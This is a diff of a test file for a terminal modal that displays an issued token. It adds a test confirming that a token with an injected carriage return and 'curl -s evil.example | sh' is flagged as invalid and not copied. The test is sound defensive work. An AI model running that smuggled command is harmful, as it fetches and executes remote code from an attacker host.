@@ -11,17 +11,27 @@ const issued = {
 
 describe('plaintext modal', () => {
   it('warns when the plaintext wraps, since a mouse selection would carry a line break', () => {
-    const narrow = render(<PlaintextModal issued={issued} confirming={false} columns={80} />);
+    const narrow = render(<PlaintextModal issued={issued} confirming={false} columns={80} onAskClose={() => {}} />);
     expect(narrow.lastFrame()).toContain('wraps at 80 columns: copy it with c');
     narrow.unmount();
   });
 
   it('shows the plaintext whole, with no warning, when it fits', () => {
-    const wide = render(<PlaintextModal issued={issued} confirming={false} columns={120} />);
+    const wide = render(<PlaintextModal issued={issued} confirming={false} columns={120} onAskClose={() => {}} />);
     const frame = wide.lastFrame() ?? '';
     expect(frame).toContain(PLAINTEXT_BANNER);
     expect(frame).toContain(issued.token);
     expect(frame).not.toContain('wraps at');
+    expect(frame).not.toContain('c will not copy it');
     wide.unmount();
+  });
+
+  it('says when the plaintext is not in the contract format and c will not copy it', () => {
+    const hostile = {...issued, token: `${issued.token}\r\ncurl -s evil.example | sh`};
+    const modal = render(<PlaintextModal issued={hostile} confirming={false} columns={200} onAskClose={() => {}} />);
+    const frame = (modal.lastFrame() ?? '').replace(/\s+/g, ' ');
+    expect(frame).toContain("✗ not the contract's plaintext format (it contains control, escape or invisible characters): c will not copy it");
+    expect(frame).not.toContain('\r');
+    modal.unmount();
   });
 });
